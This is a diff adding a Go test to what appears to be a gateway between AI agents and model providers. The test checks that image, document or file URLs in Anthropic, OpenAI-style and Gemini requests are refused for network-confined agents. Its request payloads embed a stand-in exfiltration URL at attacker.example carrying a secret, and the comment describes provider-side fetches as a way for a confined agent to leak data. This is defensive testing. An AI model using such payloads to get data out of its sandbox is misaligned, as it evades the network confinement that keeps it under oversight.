@@ -245,3 +245,51 @@ exec sleep 600`, g.Port(), hostile, ready)
 		t.Errorf("this process has %d files open, near its limit of %d", len(files), low.Cur)
 	}
 }
+
+// TestAttackProviderFetchesForAConfinedAgent: content that names a URL for the provider to
+// fetch (an image or document by URL, a file by URL) makes the provider reach the network
+// for an agent whose own network is the gateway's port: a way out for what it read, as the
+// provider's own web tools would be. Refused for such an agent; passed for one whose network
+// is open, and a URL that is only text or a tool's argument passes.
+func TestAttackProviderFetchesForAConfinedAgent(t *testing.T) {
+	const leak = "https://attacker.example/collect?secret=42"
+	fetching := []budgetCall{
+		{"anthropic image", "/v1/messages", `{"model":"claude-sonnet-4-5","max_tokens":10,"messages":[{"role":"user","content":[{"type":"image","source":{"type":"url","url":"` + leak + `"}}]}]}`, "X-Api-Key"},
+		{"anthropic document in a tool result", "/v1/messages", `{"model":"claude-sonnet-4-5","max_tokens":10,"messages":[{"role":"user","content":[{"type":"tool_result","tool_use_id":"t","content":[{"type":"document","source":{"type":"url","url":"` + leak + `"}}]}]}]}`, "X-Api-Key"},
+		{"responses image", "/v1/responses", `{"model":"gpt-5","input":[{"role":"user","content":[{"type":"input_image","image_url":"` + leak + `"}]}]}`, "Authorization"},
+		{"responses file", "/v1/responses", `{"model":"gpt-5","input":[{"role":"user","content":[{"type":"input_file","file_url":"` + leak + `"}]}]}`, "Authorization"},
+		{"chat image", "/v1/chat/completions", `{"model":"gpt-5","messages":[{"role":"user","content":[{"type":"image_url","image_url":{"url":"` + leak + `"}}]}]}`, "Authorization"},
+		{"gemini file", "/v1beta/models/gemini-2.5-flash:generateContent", `{"contents":[{"role":"user","parts":[{"fileData":{"mimeType":"application/pdf","fileUri":"` + leak + `"}}]}]}`, "X-Goog-Api-Key"},
+		{"gemini token count", "/v1beta/models/gemini-2.5-flash:countTokens", `{"generateContentRequest":{"model":"models/gemini-2.5-flash","contents":[{"parts":[{"fileData":{"fileUri":"` + leak + `"}}]}]}}`, "X-Goog-Api-Key"},
+		{"anthropic token count", "/v1/messages/count_tokens", `{"model":"claude-sonnet-4-5","messages":[{"role":"user","content":[{"type":"image","source":{"type":"url","url":"` + leak + `"}}]}]}`, "X-Api-Key"},
+		{"gemini file, snake case", "/v1beta/models/gemini-2.5-flash:generateContent", `{"contents":[{"role":"user","parts":[{"file_data":{"mime_type":"image/png","file_uri":"` + leak + `"}}]}]}`, "X-Goog-Api-Key"},
+	}
+	harmless := []budgetCall{
+		{"a URL in text and a tool's input", "/v1/messages", `{"model":"claude-sonnet-4-5","max_tokens":10,"messages":[{"role":"user","content":"fetch ` + leak + `"},{"role":"assistant","content":[{"type":"tool_use","id":"t","name":"WebFetch","input":{"url":"` + leak + `","source":{"type":"url","url":"` + leak + `"}}}]}]}`, "X-Api-Key"},
+		{"an inline image", "/v1/responses", `{"model":"gpt-5","input":[{"role":"user","content":[{"type":"input_image","image_url":"data:image/png;base64,iVBORw0KGgo="}]}]}`, "Authorization"},
+	}
+	for i, c := range append(fetching, harmless...) {
+		isFetch := i < len(fetching)
+		t.Run(c.name, func(t *testing.T) {
+			b := startBiller(t, 10)
+			g, _, _ := gatewayFor(t, b, c.provider())
+			confined, base := g.Register(Caller{Agent: "coder", Interaction: "i", Keys: map[Provider]string{c.provider(): realKey}})
+			open, openBase := g.Register(Caller{Agent: "web", Interaction: "i", Keys: map[Provider]string{c.provider(): realKey}, NetworkOpen: true})
+			st, answer := c.send(t, base, confined, false)
+			for _, r := range b.requests() {
+				if isFetch && strings.Contains(fmt.Sprint(r.body), leak) {
+					t.Errorf("the provider got %s for a confined agent (%d)", leak, st)
+				}
+			}
+			if isFetch && (st != http.StatusBadRequest || !strings.Contains(answer, "runtime.network")) {
+				t.Errorf("a confined agent's call: %d %s", st, answer)
+			}
+			if !isFetch && st != 200 {
+				t.Errorf("a confined agent's call: %d %s", st, answer)
+			}
+			if st, answer := c.send(t, openBase, open, false); st != 200 {
+				t.Errorf("an open agent's call: %d %s", st, answer)
+			}
+		})
+	}
+}
